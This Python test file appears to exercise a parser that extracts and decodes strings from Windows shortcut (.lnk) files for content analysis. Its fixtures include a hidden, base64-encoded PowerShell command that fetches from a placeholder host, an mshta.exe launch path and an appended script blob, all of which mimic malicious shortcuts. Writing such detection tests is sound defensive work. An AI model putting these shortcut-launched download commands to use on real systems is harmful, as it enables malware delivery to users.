"""Windows shortcuts: arguments in any script, environment blocks, what is appended, damage."""

import base64
import random
import struct

from tqimap.documents.pieces import Child, Context, Text
from tqimap.documents.programs import lnk
from tqimap.documents.walk import walk

NAME, RELATIVE, ARGUMENTS, ICON, UNICODE, ID_LIST, LINK_INFO = 0x4, 0x8, 0x20, 0x40, 0x80, 0x1, 0x2


def shortcut(flags: int, *parts: bytes) -> bytes:
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return b"L\x00\x00\x00" + clsid + struct.pack("<I", flags) + bytes(52) + b"".join(parts)


def wide(value: str) -> bytes:
    return struct.pack("<H", len(value)) + value.encode("utf-16-le")


def read(data: bytes) -> list:
    return list(lnk.read(data, Context()))


def test_strings_from_their_places_behind_target_and_link_information() -> None:
    id_list = struct.pack("<H", 10) + b"\x08\x00C:\\app\x00\x00"
    link_info = struct.pack("<I", 28) + bytes(24)
    arguments = "/c start http://späti.example/ü && привет"
    data = shortcut(
        NAME | ARGUMENTS | ICON | UNICODE | ID_LIST | LINK_INFO,
        id_list,
        link_info,
        wide("Rechnung"),
        wide(arguments),
        wide("%ProgramFiles%\\x.ico"),
        bytes(4),
    )
    assert read(data)[:3] == [
        Text("Rechnung", "name"),
        Text(arguments, "arguments"),
        Text("%ProgramFiles%\\x.ico", "icon"),
    ]


def test_an_encoded_command_is_decoded() -> None:
    command = base64.b64encode("iwr https://x.example/a".encode("utf-16-le")).decode()
    data = shortcut(ARGUMENTS | UNICODE, wide(f"/c powershell -w hidden -e {command}"), bytes(4))
    assert Text("iwr https://x.example/a", "arguments, decoded") in read(data)


def test_eight_bit_strings() -> None:
    assert read(shortcut(RELATIVE, struct.pack("<H", 9) + b"..\\a\xe4.exe"))[0] == Text("..\\aä.exe", "relative path")


def test_an_environment_block_is_found_by_its_strings() -> None:
    block = struct.pack("<II", 0x314, 0xA0000001) + b"%windir%\\system32\\mshta.exe".ljust(260, b"\x00")
    block += "%windir%\\system32\\mshta.exe".encode("utf-16-le").ljust(520, b"\x00")
    carved = read(shortcut(0, block, bytes(4)))[0].text
    assert carved.split("\n").count("%windir%\\system32\\mshta.exe") == 2


def test_what_is_appended_is_a_document_inside() -> None:
    block = struct.pack("<II", 12, 0xA0000005) + bytes(4)
    data = shortcut(ARGUMENTS | UNICODE, wide("x" * 9), block, bytes(4), b"<html><script>evil()</script></html>")
    assert read(data)[-1] == Child("appended", b"<html><script>evil()</script></html>")


def test_a_plain_shortcut_has_nothing_appended() -> None:
    assert not any(isinstance(piece, Child) for piece in read(shortcut(0, bytes(4))))


def test_random_damage_and_truncation_never_fail() -> None:
    chance = random.Random(6)
    whole = shortcut(
        NAME | ARGUMENTS | UNICODE | ID_LIST | LINK_INFO, wide("list"), wide("a" * 50), wide("b" * 50), bytes(4)
    )
    for length in range(0, len(whole), 3):
        read(whole[:length])
    for _ in range(300):
        data = bytearray(whole)
        for _ in range(5):
            data[chance.randrange(20, len(data))] = chance.randrange(256)
        read(bytes(data))
        assert list(walk(bytes(data), "a.lnk"))
